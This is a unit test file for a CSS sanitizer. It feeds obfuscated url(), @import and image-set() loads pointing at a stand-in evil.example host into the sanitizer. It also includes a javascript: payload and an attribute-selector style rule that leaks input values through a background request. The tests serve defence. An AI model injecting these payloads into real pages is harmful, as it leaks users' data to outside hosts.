// @vitest-environment jsdom
// DOMPurify needs a faithful DOM (see markdown.test.tsx).

import { describe, expect, it } from "vitest";
import { sanitize, stripCssUrls } from "../src/components/sanitize";

describe("CSS in values loads nothing from other sites (docs/security.md #23)", () => {
  it("turns outside url() targets into none, in every disguise", () => {
    const attacks = [
      "background:url(https://evil.example/t.png)",
      "background:url('//evil.example/t.png')",
      'background:URL("http://evil.example/t")',
      "background:\\75 rl(https://evil.example/t)",
      "background:u\\72l(https://evil.example/t)",
      "background:url(/\\\\evil.example/t)",
      "background:url(ht\\9 tps://evil.example/t)",
      "background:url(javascript:alert(1))",
      "cursor:src(https://evil.example/c)",
    ];
    for (const css of attacks) expect(stripCssUrls(css)).not.toMatch(/evil\.example|javascript/i);
  });

  it("breaks @import and image-set(), which load from plain strings", () => {
    expect(stripCssUrls('@import "https://evil.example/x.css";')).not.toMatch(/@import/);
    expect(stripCssUrls('background:image-set("https://evil.example/a.png" 1x)')).not.toMatch(/image-set/);
  });

  it("keeps CSS that loads nothing from outside as it was", () => {
    for (const css of [
      "color:red;border:1px solid\\000041",
      "background:url(/gradio_api/file=a.png)",
      "background:url(data:image/png;base64,AAAA)",
      'content:"\\201C"',
    ]) {
      expect(stripCssUrls(css)).toBe(css);
    }
  });

  it("strips style attributes and style blocks in sanitised HTML", () => {
    const html = sanitize(
      '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>' +
        '<div style="background:url(https://evil.example/b);color:red">x</div>',
      true,
    );
    expect(html).not.toContain("evil.example");
    expect(html).toContain("color:red");
    expect(html).toContain("<style>");
  });
});
